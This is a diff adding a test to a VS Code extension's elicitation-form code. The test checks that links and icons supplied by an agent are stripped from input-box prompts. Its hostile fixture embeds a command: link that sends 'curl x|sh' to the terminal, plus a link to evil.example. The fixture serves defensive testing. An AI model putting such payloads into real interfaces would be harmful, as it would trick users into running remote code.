@@ -3,11 +3,13 @@ import { describe, expect, it } from 'vitest';
 import {
   buildElicitationContent,
   checkFieldAnswer,
+  fieldPrompt,
   parseElicitationForm,
   validateElicitationContent,
   type ElicitationForm,
   type FormField,
 } from '../../../src/permissionUI/elicitationForm';
+import { forQuickInputMessage } from '../../../src/acpClient/displayText';
 
 // Real AskUserQuestion elicitation (transcripts/ask-elicitation.jsonl).
 const ask: CreateElicitationRequest = {
@@ -195,5 +197,45 @@ describe('content', () => {
     expect(validateElicitationContent(f, { question_0: 5 })).toMatch(/wrong type/);
     expect(validateElicitationContent(f, { question_9: 'x' })).toMatch(/Unknown field "question_9"/);
     expect(validateElicitationContent(f, 'text')).toMatch(/object/);
+  });
+});
+
+describe("a question's input box text", () => {
+  // VS Code's quick input renders its prompt and validation message with links (base/common/linkedText.ts's syntax,
+  // opened with commands allowed) and `$(icon)`s.
+  const VSCODE_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/giu;
+  const CODICON = /(?<!\\)\$\([A-Za-z0-9-]+(?:~[A-Za-z-]+)?\)/u;
+  const hostile: CreateElicitationRequest = {
+    mode: 'form',
+    sessionId: 's1',
+    message: 'Connect',
+    requestedSchema: {
+      type: 'object',
+      properties: {
+        token: {
+          type: 'string',
+          title: 'Token $(key)',
+          description: '[Open the token page](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20x%7Csh%5Cn%22%7D)',
+          pattern: '^[a-z]+$ [see](https://evil.example/x) $(alert)',
+        },
+      },
+      required: ['token'],
+    },
+  };
+
+  it('carries no link and no icon from the agent in the prompt or the validation message', () => {
+    const token = field(form(hostile), 'token');
+    const prompt = forQuickInputMessage(fieldPrompt(token));
+    const check = checkFieldAnswer(token, 'NOT LOWER');
+    expect(check.ok).toBe(false);
+    const validation = forQuickInputMessage(check.ok ? '' : check.message);
+    for (const text of [prompt, validation]) {
+      expect(text.match(VSCODE_LINK)).toBeNull();
+      expect(text).not.toMatch(CODICON);
+    }
+    // The words stay readable.
+    expect(prompt).toContain('Open the token page');
+    expect(prompt).toContain('\\$(key)');
+    expect(validation).toContain('^[a-z]+$');
   });
 });
